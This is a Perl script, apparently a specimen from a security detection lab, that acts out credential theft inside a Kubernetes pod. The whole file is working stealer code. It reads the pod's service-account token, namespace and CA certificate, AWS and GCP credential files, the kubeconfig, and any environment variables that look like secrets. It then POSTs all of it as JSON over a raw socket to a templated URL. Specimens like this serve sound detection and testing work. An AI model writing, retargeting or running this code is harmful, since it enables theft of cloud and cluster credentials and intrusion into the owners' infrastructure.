#!/usr/bin/perl
# kcsi lab specimen: credential theft in a pod. Reads the service-account token, namespace
# and CA, the AWS credentials file, the GCP service-account key named by
# GOOGLE_APPLICATION_CREDENTIALS (or the default path) and the kubeconfig, and POSTs them as
# JSON to @@URL@@ (127.x); then waits for the answer (none comes).
use strict;
use warnings;
use IO::Socket::INET;
use JSON::PP;
use Sys::Hostname;

sub slurp { my ($p) = @_; open(my $f, '<', $p) or return undef; local $/; my $d = <$f>; close $f; return $d; }

my $sa = '/var/run/secrets/kubernetes.io/serviceaccount';
my %loot = (
    host      => hostname(),
    namespace => slurp("$sa/namespace"),
    token     => slurp("$sa/token"),
    ca        => slurp("$sa/ca.crt"),
    aws       => slurp("$ENV{HOME}/.aws/credentials"),
    gcp       => slurp($ENV{GOOGLE_APPLICATION_CREDENTIALS} // '/var/secrets/google/key.json'),
    kubeconfig => slurp("$ENV{HOME}/.kube/config"),
    env       => { map { $_ => $ENV{$_} } grep { /KEY|TOKEN|SECRET|PASS|CRED/ } keys %ENV },
);
my $body = JSON::PP->new->canonical->encode(\%loot);
my ($host, $port, $path) = '@@URL@@' =~ m{^http://([^:/]+):(\d+)(/.*)$} or exit 1;
my $s = IO::Socket::INET->new(PeerAddr => $host, PeerPort => $port, Proto => 'tcp', Timeout => 10) or exit 1;
print $s "POST $path HTTP/1.1\r\nHost: $host:$port\r\nUser-Agent: @@UA@@\r\n"
       . "Content-Type: application/json\r\nContent-Length: " . length($body) . "\r\n\r\n$body";
my $resp = <$s>;
